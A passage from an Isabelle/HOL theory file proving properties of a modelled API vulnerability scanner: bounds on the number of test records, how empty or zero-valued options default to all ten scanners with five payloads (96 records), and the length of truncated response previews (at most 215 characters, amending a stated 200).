          Inr (injectPayload e p (injectLocation_used opts))"
    by (auto intro: scan_payloads_encode)
  show ?thesis
    by (cases "getBaseline w (tick s) e")
       (auto simp: scanEndpoint_def scan_tests_def scan_start_def Let_def
             scanners_fold_returns [OF enc]
             split: sum.splits)
qed

lemma scan_tests_counted:
  assumes "scanTypes opts = Some [t]" and "maxPayloads opts = Some 3"
  shows "counted (scan_tests w e opts bl a) \<le> counted a + 6"
proof -
  let ?loc = "injectLocation_used opts"
  let ?n = "maxPayloads_used opts"
  have per_scanner: "counted (fold (\<lambda>p. fold (run_test w sc bl p) (take 2 (injectPayload e p ?loc)))
       (slice0 (getPayloads sc) ?n) a) \<le> counted a + 6" for sc a
  proof -
    have "counted (fold (\<lambda>p. fold (run_test w sc bl p) (take 2 (injectPayload e p ?loc)))
       (slice0 (getPayloads sc) ?n) a) \<le> counted a + 2 * length (slice0 (getPayloads sc) ?n)"
      by (rule fold_measure_le) (rule payload_counted)
    with three_payloads [OF assms(2), of "getPayloads sc"] show ?thesis by simp
  qed
  have "counted (scan_tests w e opts bl a) \<le> counted a + 6 * length (scannersToUse opts)"
    unfolding scan_tests_def by (rule fold_measure_le) (rule per_scanner)
  with one_type_one_scanner [OF assms(1)] show ?thesis by simp
qed

lemma scan_tests_consistent: "consistent a \<Longrightarrow> consistent (scan_tests w e opts bl a)"
  unfolding scan_tests_def
  by (intro fold_invariant [where P = consistent]) (auto intro: run_test_consistent)

lemma scanEndpoint_counted:
  assumes "scanTypes opts = Some [t]" and "maxPayloads opts = Some 3"
    and "scanEndpoint w s e opts = (Inr res, s')"
  shows "length (tests res) \<le> 6"
proof -
  obtain bl t0 where "scanEndpoint w s e opts =
     (Inr (fst (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>))),
      snd (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>)))"
    using scanEndpoint_scan_tests by blast
  with assms(3) have "res = fst (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>))"
    by simp
  moreover have "counted (scan_start e, s\<lparr>tick := t0\<rparr>) = 0"
    by (simp add: counted_def scan_start_def)
  ultimately show ?thesis
    using scan_tests_counted [OF assms(1,2), of w e bl "(scan_start e, s\<lparr>tick := t0\<rparr>)"]
    by (simp add: counted_def)
qed

lemma scanEndpoint_consistent:
  assumes "scanEndpoint w s e opts = (Inr res, s')"
  shows "total (summary res) = length (tests res)"
proof -
  obtain bl t0 where "scanEndpoint w s e opts =
     (Inr (fst (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>))),
      snd (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>)))"
    using scanEndpoint_scan_tests by blast
  with assms have "res = fst (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>))"
    by simp
  moreover have "consistent (scan_start e, s\<lparr>tick := t0\<rparr>)"
    by (simp add: consistent_def scan_start_def)
  ultimately show ?thesis
    using scan_tests_consistent [of "(scan_start e, s\<lparr>tick := t0\<rparr>)" w e opts bl]
    by (simp add: consistent_def)
qed

lemma scan_one_report_tests:
  assumes "scanTypes opts = Some [t]" and "maxPayloads opts = Some 3"
  shows "report_tests (scan_one w opts cb n x a) \<le> report_tests a + 6"
proof -
  obtain i e where x: "x = (i, e)" by (cases x)
  obtain rep s where a: "a = (rep, s)" by (cases a)
  show ?thesis
  proof (cases "scanEndpoint w s e opts")
    case (Pair out s')
    show ?thesis
    proof (cases out)
      case (Inl err)
      with Pair show ?thesis
        by (simp add: scan_one_def x a report_tests_def Let_def)
    next
      case (Inr res)
      with Pair have "length (tests res) \<le> 6"
        using scanEndpoint_counted [OF assms] by blast
      with Pair Inr show ?thesis
        by (simp add: scan_one_def x a report_tests_def Let_def)
    qed
  qed
qed

lemma scan_one_report_consistent:
  assumes "report_consistent a"
  shows "report_consistent (scan_one w opts cb n x a)"
proof -
  obtain i e where x: "x = (i, e)" by (cases x)
  obtain rep s where a: "a = (rep, s)" by (cases a)
  show ?thesis
  proof (cases "scanEndpoint w s e opts")
    case (Pair out s')
    show ?thesis
    proof (cases out)
      case (Inl err)
      with Pair assms show ?thesis
        by (simp add: scan_one_def x a report_tests_def report_consistent_def Let_def)
    next
      case (Inr res)
      with Pair have "total (summary res) = length (tests res)"
        using scanEndpoint_consistent by blast
      with Pair Inr assms show ?thesis
        by (simp add: scan_one_def x a report_tests_def report_consistent_def Let_def)
    qed
  qed
qed

lemma runScan_fold:
  "\<exists>a. report_tests a = 0 \<and> report_consistent a \<and>
     report_endpoints (fst (runScan w s es opts cb)) =
       report_endpoints (fst (fold (scan_one w opts cb (length es)) (zip [0..<length es] es) a)) \<and>
     scan_summary (fst (runScan w s es opts cb)) =
       scan_summary (fst (fold (scan_one w opts cb (length es)) (zip [0..<length es] es) a))"
  by (rule exI [where x = "(\<lparr>scanId = uuid w, timestamp = now w (tick s + 1), report_options = opts,
             report_endpoints = [],
             scan_summary =
               \<lparr>totalEndpoints = length es, totalTests = 0, report_passed = 0,
                report_failed = 0, report_errors = 0, vulnerabilities = []\<rparr>,
             duration = None, events = []\<rparr>, s\<lparr>tick := tick s + 2\<rparr>)"])
     (simp add: runScan_def Let_def split_beta report_tests_def report_consistent_def)

lemma runScan_bound:
  assumes "scanTypes opts = Some [t]" and "maxPayloads opts = Some 3"
  shows "sum_list (map (\<lambda>e. length (tests e)) (report_endpoints (fst (runScan w s es opts cb))))
           \<le> length es * 3 * 2 \<and>
         totalTests (scan_summary (fst (runScan w s es opts cb))) =
           sum_list (map (\<lambda>e. length (tests e)) (report_endpoints (fst (runScan w s es opts cb))))"
proof -
  let ?f = "scan_one w opts cb (length es)"
  let ?xs = "zip [0..<length es] es"
  obtain a where a: "report_tests a = 0" "report_consistent a"
    and eq: "report_endpoints (fst (runScan w s es opts cb)) = report_endpoints (fst (fold ?f ?xs a))"
      "scan_summary (fst (runScan w s es opts cb)) = scan_summary (fst (fold ?f ?xs a))"
    using runScan_fold by blast
  have "report_tests (fold ?f ?xs a) \<le> report_tests a + 6 * length ?xs"
    by (rule fold_measure_le) (rule scan_one_report_tests [OF assms])
  then have le: "report_tests (fold ?f ?xs a) \<le> length es * 3 * 2" using a(1) by simp
  have "report_consistent (fold ?f ?xs a)"
    by (rule fold_invariant [where P = report_consistent])
       (auto intro: a(2) scan_one_report_consistent)
  with le show ?thesis by (simp add: eq report_tests_def report_consistent_def)
qed

text \<open>
  C5. With \<open>scanTypes\<close> a list of one type and \<open>maxPayloads = 3\<close>, the test records of
  all the endpoint results of a report, those with the verdict ERROR among them, are at
  most \<open>N \<times> 3 \<times> 2\<close> for a list of \<open>N\<close> endpoints, and the counter \<open>totalTests\<close> of the
  report is their number.
\<close>

theorem C5_runScan_bound:
  assumes "scanTypes opts = Some [t]" and "maxPayloads opts = Some 3"
  shows "sum_list (map (\<lambda>e. length (tests e)) (report_endpoints (fst (runScan w s es opts cb))))
           \<le> length es * 3 * 2 \<and>
         totalTests (scan_summary (fst (runScan w s es opts cb))) =
           sum_list (map (\<lambda>e. length (tests e)) (report_endpoints (fst (runScan w s es opts cb))))"
  using assms by (rule runScan_bound)

theorem C5_runScan_bound_witness:
  "scanTypes example_options = Some [''XSS''] \<and> maxPayloads example_options = Some 3 \<and>
   sum_list (map (\<lambda>e. length (tests e))
     (report_endpoints (fst (runScan refusing_world \<lparr>tick = 0, mods = loaded\<rparr>
        [example_endpoint, example_endpoint] example_options True)))) \<le> 2 * 3 * 2"
proof -
  have h: "scanTypes example_options = Some [''XSS'']" "maxPayloads example_options = Some 3"
    by (simp_all add: example_options_def)
  show ?thesis
    using C5_runScan_bound [OF h, of refusing_world "\<lparr>tick = 0, mods = loaded\<rparr>"
        "[example_endpoint, example_endpoint]" True] h
    by simp
qed


section \<open>Options that are there but falsy\<close>

text \<open>The probes of a scan are those of its three loops, one record for each.\<close>

lemma fold_appends:
  assumes "\<And>x a. g (f x a) = g a @ h x"
  shows "g (fold f xs a) = g a @ concat (map h xs)"
  by (induction xs arbitrary: a) (simp_all add: assms)

lemma run_test_probe:
  "map probe (tests (fst (run_test w sc bl p v a))) =
     map probe (tests (fst a)) @ [(getType sc, p, injectionPoint v)]"
  by (cases a)
     (auto simp: run_test_def probe_def failed_test_def Let_def
           split: prod.splits sum.splits option.splits)

lemma scan_tests_probes:
  "map probe (tests (fst (scan_tests w e opts bl a))) =
     map probe (tests (fst a)) @
     concat (map (\<lambda>sc.
        concat (map (\<lambda>p. map (\<lambda>v. (getType sc, p, injectionPoint v))
                               (take 2 (injectPayload e p (injectLocation_used opts))))
                    (slice0 (getPayloads sc) (maxPayloads_used opts))))
       (scannersToUse opts))"
proof -
  let ?g = "\<lambda>a. map probe (tests (fst a))"
  have variants: "?g (fold (run_test w sc bl p) vs a) =
      ?g a @ map (\<lambda>v. (getType sc, p, injectionPoint v)) vs" for sc p vs a
    using fold_appends [of ?g "run_test w sc bl p" "\<lambda>v. [(getType sc, p, injectionPoint v)]" vs a]
    by (simp add: run_test_probe)
  have payloads: "?g (fold (\<lambda>p. fold (run_test w sc bl p) (vs p)) ps a) =
      ?g a @ concat (map (\<lambda>p. map (\<lambda>v. (getType sc, p, injectionPoint v)) (vs p)) ps)" for sc vs ps a
    by (rule fold_appends) (rule variants)
  show ?thesis
    unfolding scan_tests_def by (rule fold_appends) (rule payloads)
qed

lemma scanEndpoint_probes:
  "\<exists>res s'. scanEndpoint w s e opts = (Inr res, s') \<and>
     map probe (tests res) =
       concat (map (\<lambda>sc.
          concat (map (\<lambda>p. map (\<lambda>v. (getType sc, p, injectionPoint v))
                                 (take 2 (injectPayload e p (injectLocation_used opts))))
                      (slice0 (getPayloads sc) (maxPayloads_used opts))))
         (scannersToUse opts))"
proof -
  obtain bl t0 where "scanEndpoint w s e opts =
     (Inr (fst (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>))),
      snd (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>)))"
    using scanEndpoint_scan_tests by blast
  moreover have "tests (fst (scan_start e, s\<lparr>tick := t0\<rparr>)) = []"
    by (simp add: scan_start_def)
  ultimately show ?thesis
    using scan_tests_probes [of w e opts bl "(scan_start e, s\<lparr>tick := t0\<rparr>)"] by simp
qed

lemma two_variants: "length (take 2 (injectPayload e p ''all'')) = 2"
  by (simp add: injectPayload_def Let_def)

lemma planned_types:
  "map fst (planned scs n e ''all'') =
     concat (map (\<lambda>sc. replicate (2 * length (take n (getPayloads sc))) (getType sc)) scs)"
proof -
  have one: "map fst (concat (map (\<lambda>p. map (\<lambda>v. (getType sc, p, injectionPoint v))
                               (take 2 (injectPayload e p ''all''))) ps)) =
      replicate (2 * length ps) (getType sc)" for sc ps
  proof (induction ps)
    case Nil
    then show ?case by simp
  next
    case (Cons p ps)
    have "map (\<lambda>v. getType sc) (take 2 (injectPayload e p ''all'')) = replicate 2 (getType sc)"
      using two_variants [of e p] by (simp add: map_replicate_const)
    with Cons show ?case by (simp add: comp_def replicate_add [symmetric] del: replicate_Suc)
  qed
  show ?thesis
    unfolding planned_def by (induction scs) (simp_all add: one)
qed

lemma planned_payloads:
  "map (\<lambda>t. fst (snd t)) (planned scs n e ''all'') =
     concat (map (\<lambda>sc. concat (map (\<lambda>p. [p, p]) (take n (getPayloads sc)))) scs)"
proof -
  have one: "map (\<lambda>t. fst (snd t)) (concat (map (\<lambda>p. map (\<lambda>v. (getType sc, p, injectionPoint v))
                               (take 2 (injectPayload e p ''all''))) ps)) =
      concat (map (\<lambda>p. [p, p]) ps)" for sc ps
  proof (induction ps)
    case Nil
    then show ?case by simp
  next
    case (Cons p ps)
    have "map (\<lambda>v. p) (take 2 (injectPayload e p ''all'')) = replicate 2 p"
      using two_variants [of e p] by (simp add: map_replicate_const)
    with Cons show ?case by (simp add: comp_def numeral_2_eq_2)
  qed
  show ?thesis
    unfolding planned_def by (induction scs) (simp_all add: one)
qed

lemma catalogue_lengths:
  "map (\<lambda>sc. length (take 5 (getPayloads sc))) scanners = [5, 5, 5, 5, 5, 5, 3, 5, 5, 5]"
  by (simp add: scanners_def sqlScanner_def xssScanner_def commandInjectionScanner_def
        pathTraversalScanner_def nosqlInjectionScanner_def headerInjectionScanner_def
        rateLimitingScanner_def malformedPayloadScanner_def httpMethodScanner_def
        payloadSizeScanner_def sqlInjection_def xss_def commandInjection_def pathTraversal_def
        nosqlInjection_def headerInjection_def malformedPayloads_def httpMethods_def sizeTests_def)

lemma slice0_5: "slice0 xs 5 = take 5 xs"
  by (simp add: slice0_def)

lemma both_falsy:
  "\<exists>res s'. scanEndpoint w s e \<lparr>scanTypes = Some [], maxPayloads = Some 0, injectLocation = None\<rparr> =
       (Inr res, s') \<and>
     map probe (tests res) = planned scanners 5 e ''all'' \<and>
     map test_type (tests res) =
       replicate 10 ''SQL Injection'' @ replicate 10 ''XSS'' @ replicate 10 ''Command Injection'' @
       replicate 10 ''Path Traversal'' @ replicate 10 ''NoSQL Injection'' @
       replicate 10 ''Header Injection'' @ replicate 6 ''Rate Limiting'' @
       replicate 10 ''Malformed Payload'' @ replicate 10 ''HTTP Method'' @
       replicate 10 ''Payload Size'' \<and>
     map test_payload (tests res) =
       concat (map (\<lambda>sc. concat (map (\<lambda>p. [p, p]) (take 5 (getPayloads sc)))) scanners) \<and>
     length (tests res) = 96"
proof -
  let ?opts = "\<lparr>scanTypes = Some [], maxPayloads = Some 0, injectLocation = None\<rparr>"
  obtain res s' where run: "scanEndpoint w s e ?opts = (Inr res, s')"
    and probes: "map probe (tests res) = planned scanners 5 e ''all''"
    using scanEndpoint_probes [of w s e ?opts]
    by (auto simp: planned_def scannersToUse_def maxPayloads_used_def injectLocation_used_def
          slice0_5)
  have ty: "map test_type (tests res) = map fst (map probe (tests res))"
    and pl: "map test_payload (tests res) = map (\<lambda>t. fst (snd t)) (map probe (tests res))"
    by (simp_all add: probe_def comp_def)
  have types: "map test_type (tests res) =
       replicate 10 ''SQL Injection'' @ replicate 10 ''XSS'' @ replicate 10 ''Command Injection'' @
       replicate 10 ''Path Traversal'' @ replicate 10 ''NoSQL Injection'' @
       replicate 10 ''Header Injection'' @ replicate 6 ''Rate Limiting'' @
       replicate 10 ''Malformed Payload'' @ replicate 10 ''HTTP Method'' @
       replicate 10 ''Payload Size''"
    unfolding ty probes planned_types
    using catalogue_lengths
    by (simp add: scanners_def sqlScanner_def xssScanner_def commandInjectionScanner_def
        pathTraversalScanner_def nosqlInjectionScanner_def headerInjectionScanner_def
        rateLimitingScanner_def malformedPayloadScanner_def httpMethodScanner_def
        payloadSizeScanner_def)
  have payloads: "map test_payload (tests res) =
       concat (map (\<lambda>sc. concat (map (\<lambda>p. [p, p]) (take 5 (getPayloads sc)))) scanners)"
    unfolding pl probes planned_payloads ..
  have "length (tests res) = length (map test_type (tests res))" by simp
  also have "\<dots> = 96" unfolding types by simp
  finally show ?thesis using run probes types payloads by blast
qed

lemma slice0_positive: "0 < n \<Longrightarrow> slice0 xs n = take (nat n) xs"
  by (simp add: slice0_def)

text \<open>
  C10. A scan of an endpoint with \<open>scanTypes\<close> the empty list and \<open>maxPayloads = 0\<close>
  returns what it returns with both options left out: one record for each of the ten
  scanners of the registry, in their order, each of its first five payloads (all three
  of the scanner of rate limiting, which has no more) and each of the first two variants
  of the payload, 96 records in all. With \<open>scanTypes\<close> the empty list and a positive
  \<open>maxPayloads\<close> the records are those of all ten scanners with that many payloads; with
  \<open>maxPayloads = 0\<close> and a list of types they are those of the scanners of these types
  with five payloads.
\<close>

theorem C10_options_truthiness:
  "(\<exists>res s'.
      scanEndpoint w s e \<lparr>scanTypes = Some [], maxPayloads = Some 0, injectLocation = None\<rparr> =
        (Inr res, s') \<and>
      scanEndpoint w s e \<lparr>scanTypes = None, maxPayloads = None, injectLocation = None\<rparr> =
        (Inr res, s') \<and>
      map probe (tests res) = planned scanners 5 e ''all'' \<and>
      map test_type (tests res) =
        replicate 10 ''SQL Injection'' @ replicate 10 ''XSS'' @ replicate 10 ''Command Injection'' @
        replicate 10 ''Path Traversal'' @ replicate 10 ''NoSQL Injection'' @
        replicate 10 ''Header Injection'' @ replicate 6 ''Rate Limiting'' @
        replicate 10 ''Malformed Payload'' @ replicate 10 ''HTTP Method'' @
        replicate 10 ''Payload Size'' \<and>
      map test_payload (tests res) =
        concat (map (\<lambda>sc. concat (map (\<lambda>p. [p, p]) (take 5 (getPayloads sc)))) scanners) \<and>
      length (tests res) = 96) \<and>
   (0 < n \<and> loc \<noteq> [] \<longrightarrow>
      (\<exists>res s'.
         scanEndpoint w s e \<lparr>scanTypes = Some [], maxPayloads = Some n, injectLocation = Some loc\<rparr> =
           (Inr res, s') \<and>
         map probe (tests res) = planned scanners (nat n) e loc)) \<and>
   (ts \<noteq> [] \<and> loc \<noteq> [] \<longrightarrow>
      (\<exists>res s'.
         scanEndpoint w s e \<lparr>scanTypes = Some ts, maxPayloads = Some 0, injectLocation = Some loc\<rparr> =
           (Inr res, s') \<and>
         map probe (tests res) = planned (filter (\<lambda>sc. getType sc \<in> set ts) scanners) 5 e loc))"
proof (intro conjI impI)
  have same: "scanEndpoint w s e \<lparr>scanTypes = None, maxPayloads = None, injectLocation = None\<rparr> =
      scanEndpoint w s e \<lparr>scanTypes = Some [], maxPayloads = Some 0, injectLocation = None\<rparr>"
  proof -
    have "scannersToUse \<lparr>scanTypes = None, maxPayloads = None, injectLocation = None\<rparr> =
        scannersToUse \<lparr>scanTypes = Some [], maxPayloads = Some 0, injectLocation = None\<rparr>"
      "maxPayloads_used \<lparr>scanTypes = None, maxPayloads = None, injectLocation = None\<rparr> =
        maxPayloads_used \<lparr>scanTypes = Some [], maxPayloads = Some 0, injectLocation = None\<rparr>"
      "injectLocation_used \<lparr>scanTypes = None, maxPayloads = None, injectLocation = None\<rparr> =
        injectLocation_used \<lparr>scanTypes = Some [], maxPayloads = Some 0, injectLocation = None\<rparr>"
      by (simp_all add: scannersToUse_def maxPayloads_used_def injectLocation_used_def)
    then show ?thesis unfolding scanEndpoint_def by (simp only:)
  qed
  from both_falsy [of w s e] show "\<exists>res s'.
      scanEndpoint w s e \<lparr>scanTypes = Some [], maxPayloads = Some 0, injectLocation = None\<rparr> =
        (Inr res, s') \<and>
      scanEndpoint w s e \<lparr>scanTypes = None, maxPayloads = None, injectLocation = None\<rparr> =
        (Inr res, s') \<and>
      map probe (tests res) = planned scanners 5 e ''all'' \<and>
      map test_type (tests res) =
        replicate 10 ''SQL Injection'' @ replicate 10 ''XSS'' @ replicate 10 ''Command Injection'' @
        replicate 10 ''Path Traversal'' @ replicate 10 ''NoSQL Injection'' @
        replicate 10 ''Header Injection'' @ replicate 6 ''Rate Limiting'' @
        replicate 10 ''Malformed Payload'' @ replicate 10 ''HTTP Method'' @
        replicate 10 ''Payload Size'' \<and>
      map test_payload (tests res) =
        concat (map (\<lambda>sc. concat (map (\<lambda>p. [p, p]) (take 5 (getPayloads sc)))) scanners) \<and>
      length (tests res) = 96"
    unfolding same by blast
next
  assume h: "0 < n \<and> loc \<noteq> []"
  let ?opts = "\<lparr>scanTypes = Some [], maxPayloads = Some n, injectLocation = Some loc\<rparr>"
  from h show "\<exists>res s'. scanEndpoint w s e ?opts = (Inr res, s') \<and>
      map probe (tests res) = planned scanners (nat n) e loc"
    using scanEndpoint_probes [of w s e ?opts]
    by (auto simp: planned_def scannersToUse_def maxPayloads_used_def injectLocation_used_def
          slice0_positive)
next
  assume h: "ts \<noteq> [] \<and> loc \<noteq> []"
  let ?opts = "\<lparr>scanTypes = Some ts, maxPayloads = Some 0, injectLocation = Some loc\<rparr>"
  from h show "\<exists>res s'. scanEndpoint w s e ?opts = (Inr res, s') \<and>
      map probe (tests res) = planned (filter (\<lambda>sc. getType sc \<in> set ts) scanners) 5 e loc"
    using scanEndpoint_probes [of w s e ?opts]
    by (auto simp: planned_def scannersToUse_def maxPayloads_used_def injectLocation_used_def
          slice0_def)
qed

theorem C10_options_truthiness_witness:
  "(0 :: int) < 2 \<and> ''query'' \<noteq> [] \<and> [''XSS''] \<noteq> [] \<and>
   (\<exists>res s'.
      scanEndpoint refusing_world \<lparr>tick = 0, mods = loaded\<rparr> example_endpoint
        \<lparr>scanTypes = Some [], maxPayloads = Some 0, injectLocation = None\<rparr> = (Inr res, s') \<and>
      length (tests res) = 96) \<and>
   (\<exists>res s'.
      scanEndpoint refusing_world \<lparr>tick = 0, mods = loaded\<rparr> example_endpoint
        \<lparr>scanTypes = Some [], maxPayloads = Some 2, injectLocation = Some ''query''\<rparr> = (Inr res, s') \<and>
      map probe (tests res) = planned scanners (nat 2) example_endpoint ''query'') \<and>
   (\<exists>res s'.
      scanEndpoint refusing_world \<lparr>tick = 0, mods = loaded\<rparr> example_endpoint
        \<lparr>scanTypes = Some [''XSS''], maxPayloads = Some 0, injectLocation = Some ''query''\<rparr> =
        (Inr res, s') \<and>
      map probe (tests res) =
        planned (filter (\<lambda>sc. getType sc \<in> set [''XSS'']) scanners) 5 example_endpoint ''query'')"
proof -
  have h: "(0 :: int) < 2 \<and> ''query'' \<noteq> []" "[''XSS''] \<noteq> [] \<and> ''query'' \<noteq> []"
    by simp_all
  show ?thesis
    using C10_options_truthiness [of refusing_world "\<lparr>tick = 0, mods = loaded\<rparr>"
        example_endpoint 2 "''query''" "[''XSS'']"] h
    by blast
qed

section \<open>The response preview\<close>

lemma units_cases: "units c = 0 \<or> units c = 1 \<or> units c = 2"
  by (simp add: units_def)

lemma js_length_Nil: "js_length [] = 0"
  by (simp add: js_length_def)

lemma js_length_Cons: "js_length (c # s) = units c + js_length s"
  by (simp add: js_length_def)

lemma js_length_append: "js_length (a @ b) = js_length a + js_length b"
  by (simp add: js_length_def)

lemma units_continuation: "units (char_of (0x80 + x mod (64 :: nat))) = 0"
  by (simp add: units_def continuation_def)

lemma js_length_high_surrogate: "js_length (high_surrogate a s) = 1"
proof (cases "(a, s)" rule: high_surrogate.cases)
  case (1 a' b c d t)
  then have s: "s = b # c # d # t" by simp
  show ?thesis
    unfolding s high_surrogate.simps Let_def js_length_Cons js_length_Nil units_continuation
    by (simp add: units_def continuation_def)
qed (simp_all add: js_length_def units_def continuation_def)

lemma js_length_substring0: "js_length (substring0 s n) = min n (js_length s)"
proof (induction s arbitrary: n)
  case Nil
  then show ?case by (simp add: js_length_Nil)
next
  case (Cons c s)
  show ?case
    using units_cases [of c] Cons.IH [of n] Cons.IH [of "n - units c"]
    by (auto simp: js_length_Cons js_length_Nil js_length_high_surrogate units_def)
qed

lemma js_length_ascii: "list_all (\<lambda>c. (of_char c :: nat) < 0x80) s \<Longrightarrow> js_length s = length s"
  by (induction s) (auto simp: js_length_Nil js_length_Cons units_def continuation_def)

lemma js_length_marker: "js_length ''... [truncated]'' = 15"
  by (simp add: js_length_def units_def continuation_def)

lemma js_length_no_body: "js_length ''[No response body]'' = 18"
  by (simp add: js_length_def units_def continuation_def)

lemma truncateResponse_length: "js_length (truncateResponse d) \<le> 215"
  by (simp add: truncateResponse_def Let_def js_length_append js_length_substring0
        js_length_marker js_length_no_body)

lemma truncateResponse_cases:
  "\<not> truthy_data d \<Longrightarrow> truncateResponse d = ''[No response body]''"
  "truthy_data d \<Longrightarrow> js_length (data_text d) \<le> 200 \<Longrightarrow> truncateResponse d = data_text d"
  "truthy_data d \<Longrightarrow> 200 < js_length (data_text d) \<Longrightarrow>
     truncateResponse d = substring0 (data_text d) 200 @ ''... [truncated]'' \<and>
     js_length (substring0 (data_text d) 200) = 200 \<and>
     js_length (truncateResponse d) = 215"
  by (simp_all add: truncateResponse_def Let_def js_length_append js_length_substring0
        js_length_marker)

lemma substring0_ascii:
  "list_all (\<lambda>c. (of_char c :: nat) < 0x80) s \<Longrightarrow> substring0 s n = take n s"
  by (induction s arbitrary: n) (auto simp: units_def continuation_def take_Cons' )

lemma scanners_return:
  "sc \<in> set scanners \<Longrightarrow> \<exists>res m'. analyzeResponse sc m r p b t = (Inr res, m')"
  by (auto simp: scanners_def returned_def sqlScanner_def xssScanner_def
        commandInjectionScanner_def pathTraversalScanner_def nosqlInjectionScanner_def
        headerInjectionScanner_def rateLimitingScanner_def malformedPayloadScanner_def
        httpMethodScanner_def payloadSizeScanner_def)

lemma run_test_preview:
  assumes "sc \<in> set scanners"
  shows "\<exists>sent t' rec. sendRequest w (tick s + 1) v = (Inr sent, t') \<and>
     tests (fst (run_test w sc bl p v (r, s))) = tests r @ [rec] \<and>
     responsePreview rec = Some (truncateResponse (data (response sent)))"
proof -
  obtain sent where sent: "sendRequest w (tick s + 1) v = (Inr sent, tick s + 1 + 3)"
    using sendRequest_resolves [of w "tick s + 1" v] by blast
  obtain res m' where res: "analyzeResponse sc (mods s) (response sent) p
      (map_option baseline_status bl) (Some (responseTime sent)) = (Inr res, m')"
    using scanners_return [OF assms] by blast
  show ?thesis
    using sent res by (cases bl) (auto simp: run_test_def Let_def)
qed

lemma fold_invariant_in:
  assumes "P a" and "\<And>x a. x \<in> set xs \<Longrightarrow> P a \<Longrightarrow> P (f x a)"
  shows "P (fold f xs a)"
  using assms by (induction xs arbitrary: a) auto

lemma run_test_previewed:
  assumes "sc \<in> set scanners" and "previewed a"
  shows "previewed (run_test w sc bl p v a)"
proof -
  obtain r s where a: "a = (r, s)" by (cases a)
  from run_test_preview [OF assms(1), of w s v bl p r] assms(2) show ?thesis
    unfolding a previewed_def by auto
qed

lemma scan_tests_previewed:
  assumes "previewed a"
  shows "previewed (scan_tests w e opts bl a)"
  unfolding scan_tests_def
proof (rule fold_invariant_in [where P = previewed, OF assms])
  fix sc a
  assume sc: "sc \<in> set (scannersToUse opts)" and a: "previewed a"
  from sc set_scannersToUse [of opts] have reg: "sc \<in> set scanners" by auto
  show "previewed (fold (\<lambda>p. fold (run_test w sc bl p)
           (take 2 (injectPayload e p (injectLocation_used opts))))
         (slice0 (getPayloads sc) (maxPayloads_used opts)) a)"
    using a
    by (intro fold_invariant_in [where P = previewed]) (auto intro: run_test_previewed [OF reg])
qed

lemma scanEndpoint_previewed:
  assumes "scanEndpoint w s e opts = (Inr res, s')"
  shows "\<forall>t \<in> set (tests res). \<exists>d. responsePreview t = Some (truncateResponse d)"
proof -
  obtain bl t0 where "scanEndpoint w s e opts =
     (Inr (fst (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>))),
      snd (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>)))"
    using scanEndpoint_scan_tests by blast
  with assms have "res = fst (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>))"
    by simp
  moreover have "previewed (scan_start e, s\<lparr>tick := t0\<rparr>)"
    by (simp add: previewed_def scan_start_def)
  ultimately show ?thesis
    using scan_tests_previewed [of "(scan_start e, s\<lparr>tick := t0\<rparr>)" w e opts bl]
    by (simp add: previewed_def)
qed

lemma refused_scan:
  "\<exists>res s'. scanEndpoint refusing_world \<lparr>tick = 0, mods = loaded\<rparr> example_endpoint example_options =
      (Inr res, s') \<and> tests res \<noteq> []"
proof -
  obtain res s' where run: "scanEndpoint refusing_world \<lparr>tick = 0, mods = loaded\<rparr>
      example_endpoint example_options = (Inr res, s')"
    and probes: "map probe (tests res) =
       concat (map (\<lambda>sc.
          concat (map (\<lambda>p. map (\<lambda>v. (getType sc, p, injectionPoint v))
                 (take 2 (injectPayload example_endpoint p (injectLocation_used example_options))))
               (slice0 (getPayloads sc) (maxPayloads_used example_options))))
         (scannersToUse example_options))"
    using scanEndpoint_probes by blast
  have "xssScanner \<in> set (scannersToUse example_options)"
    by (simp add: scannersToUse_def example_options_def scanners_def xssScanner_def)
  moreover have "slice0 (getPayloads xssScanner) (maxPayloads_used example_options) \<noteq> []"
    by (simp add: slice0_def maxPayloads_used_def example_options_def xssScanner_def xss_def)
  ultimately have "map probe (tests res) \<noteq> []"
    unfolding probes using injectPayload_nonempty
    by (auto simp: neq_Nil_conv) (metis list.set_intros(1))
  with run show ?thesis by auto
qed

text \<open>
  C8, as stated: the preview never exceeds 200 characters. A body of 201 letters gives
  a preview of 215 characters, the first 200 of the body and the 15 of the marker, and
  that is the preview in the record of a test whose response has this body.
\<close>

theorem C8_preview_exceeds_200:
  "js_length (truncateResponse (Text (replicate 201 CHR ''A''))) = 215 \<and>
   map (\<lambda>t. map_option js_length (responsePreview t))
     (tests (fst (run_test verbose_world payloadSizeScanner None ''x''
        (modified example_endpoint ''Query param: q (injected)'')
        (scan_start example_endpoint, \<lparr>tick = 0, mods = loaded\<rparr>)))) = [Some 215]"
  by code_simp

text \<open>
  C8, amended. Characters are counted as \<^verbatim>\<open>length\<close> counts them, in UTF-16 code units.
  The preview is at most 215 characters long. For a falsy body it is
  \<^verbatim>\<open>[No response body]\<close>; for a body of at most 200 characters it is the body itself;
  for a longer body it is the first 200 characters of the body followed by the marker
  \<^verbatim>\<open>... [truncated]\<close>, 215 characters in all. The record that a test with a scanner of
  the registry pushes carries the preview of the data of the response to its request,
  and so does every record of the result of \<open>scanEndpoint\<close>.
\<close>

theorem C8_preview_bound:
  "js_length (truncateResponse d) \<le> 215 \<and>
   (\<not> truthy_data d \<longrightarrow> truncateResponse d = ''[No response body]'') \<and>
   (truthy_data d \<and> js_length (data_text d) \<le> 200 \<longrightarrow> truncateResponse d = data_text d) \<and>
   (truthy_data d \<and> 200 < js_length (data_text d) \<longrightarrow>
      truncateResponse d = substring0 (data_text d) 200 @ ''... [truncated]'' \<and>
      js_length (substring0 (data_text d) 200) = 200 \<and>
      js_length (truncateResponse d) = 215) \<and>
   (sc \<in> set scanners \<longrightarrow>
      (\<exists>sent t' rec.
         sendRequest w (tick s + 1) v = (Inr sent, t') \<and>
         tests (fst (run_test w sc bl p v (r, s))) = tests r @ [rec] \<and>
